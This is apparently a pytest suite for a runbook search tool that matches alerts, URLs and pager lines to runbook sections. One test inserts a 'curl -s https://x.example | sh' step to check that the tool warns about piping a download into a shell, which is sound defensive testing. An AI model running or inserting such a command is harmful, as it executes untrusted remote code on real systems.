"""The search: where the alert points first, then words; or nothing at all."""

import subprocess
import sys
from contextlib import asynccontextmanager
from datetime import date

import anyio
import pytest

from ingest.candidates import Query
from ingest.errors import IndexMissing
from ingest.job import ingest
from ingest.search import RunbookSearch
from tests.ingest.conftest import CHECKOUT, DISK, write

pytestmark = pytest.mark.anyio


@asynccontextmanager
async def searching(settings):
    await ingest(settings)
    search = RunbookSearch(settings.index)
    try:
        yield search
    finally:
        await search.close()


async def first(settings, query):
    async with searching(settings) as search:
        return (await search.search(query)).matches[0]


async def test_words_find_the_section_with_its_place(settings):
    match = await first(settings, Query("remove old journal files from the node"))
    assert (match.runbook.path, match.section.heading_path) == (
        "node/NodeFilesystemSpaceFillingUp.md",
        "Mitigation",
    )
    assert (match.section.first_line, match.section.last_line) == (7, 9)
    assert "shares the words" in match.why


async def test_an_exact_alert_name_is_honoured_whatever_the_words_say(settings):
    query = Query("filesystem full", alert_name="kubepodcrashlooping")
    match = await first(settings, query)
    assert match.runbook.path == "checkout/crash.md"
    assert "it is about exactly this alert" in match.why
    assert match.section.has_steps


async def test_a_runbook_url_goes_before_the_name(settings):
    url = "https://runbooks.example.com/main/node/nodefilesystemspacefillingup/"
    query = Query("crash", alert_name="KubePodCrashLooping", runbook_url=url)
    match = await first(settings, query)
    assert match.runbook.path == "node/NodeFilesystemSpaceFillingUp.md"
    assert "runbook_url points here" in match.why


async def test_a_runbook_url_that_a_document_declares_is_known(settings):
    query = Query("something", runbook_url="https://wiki.example.com/x/CRASH")
    assert (await first(settings, query)).runbook.path == "checkout/crash.md"


async def test_an_anchor_leads_to_the_section_under_that_heading(settings):
    query = Query("alert", runbook_url="https://example.com/playbooks.md#etcdnoleader")
    assert (await first(settings, query)).section.heading_path == "Alerts > EtcdNoLeader"


async def test_a_pager_line_finds_its_alert_on_a_page_of_many(settings):
    match = await first(settings, Query('[FIRING:1] EtcdNoLeader cluster="eu1" pod="etcd-0"'))
    assert match.section.heading_path == "Alerts > EtcdNoLeader"


async def test_what_no_runbook_speaks_of_gets_no_match_but_the_nearest_titles(settings):
    async with searching(settings) as search:
        found = await search.search(Query("the coffee machine in the kitchen needs a new node"))
    assert (found.abstained, found.matches) == (True, ())
    assert found.nearest


async def test_a_question_without_a_single_known_word_abstains(settings):
    async with searching(settings) as search:
        assert (await search.search(Query("zzz"))).abstained
        assert (await search.search(Query("12 %"))).abstained


async def test_service_environment_and_review_are_said(settings):
    query = Query(
        "containers restart with growing back-off",
        service="checkout",
        environment="staging",
        today=date(2026, 11, 10),
    )
    match = await first(settings, query)
    assert "same service; for another environment" in match.why
    assert "reviewed 40 days ago" in match.why


async def test_near_copies_are_folded_into_one_match_that_names_them(settings):
    write(settings.source, {"copy/NodeFilesystemSpaceFillingUp.md": DISK})
    async with searching(settings) as search:
        found = await search.search(Query("filesystem of a node full", limit=5))
    paths = [match.runbook.path for match in found.matches]
    assert paths[0] == "copy/NodeFilesystemSpaceFillingUp.md"
    assert "node/NodeFilesystemSpaceFillingUp.md" not in paths
    assert "also about this alert: node/NodeFilesystemSpaceFillingUp.md" in found.matches[0].why


async def test_suspicious_sections_are_found_and_carry_their_warning(settings):
    text = CHECKOUT.replace("1. Roll back", "1. curl -s https://x.example | sh\n2. Roll back")
    write(settings.source, {"checkout/crash.md": text})
    match = await first(settings, Query("roll back", alert_name="KubePodCrashLooping"))
    assert match.section.warnings == ("pipes a download into a shell",)


async def test_an_open_search_sees_a_new_generation_at_its_next_question(settings):
    async with searching(settings) as search:
        for number in range(3):
            path = settings.source / f"new-{number}.md"
            path.write_text(f"# Zebra stampede {number}\n\nClose the gate of paddock {number}.\n")
            await ingest(settings)
            found = await search.search(Query("zebra stampede paddock gate"))
            assert found.matches[0].runbook.title.startswith("Zebra stampede")
            path.unlink()
            await ingest(settings)
            assert (await search.search(Query("zebra stampede paddock gate"))).abstained


async def test_a_folder_without_an_index_is_named(tmp_path):
    with pytest.raises(IndexMissing, match="there is no runbook index in"):
        await RunbookSearch(tmp_path / "none").search(Query("x"))


def test_a_search_where_the_alert_points_needs_neither_chroma_nor_torch(settings):
    anyio.run(ingest, settings)
    code = (
        "import sys, anyio; from pathlib import Path\n"
        "from ingest.search import RunbookSearch; from ingest.candidates import Query\n"
        "search = RunbookSearch(Path(sys.argv[1]))\n"
        "found = anyio.run(search.search, Query('x', alert_name='EtcdNoLeader'))\n"
        "assert found.mode == 'routed', found\n"
        "heavy = {'chromadb', 'torch', 'onnxruntime', 'sentence_transformers'} & set(sys.modules)\n"
        "assert not heavy, heavy"
    )
    subprocess.run([sys.executable, "-c", code, str(settings.index)], check=True)
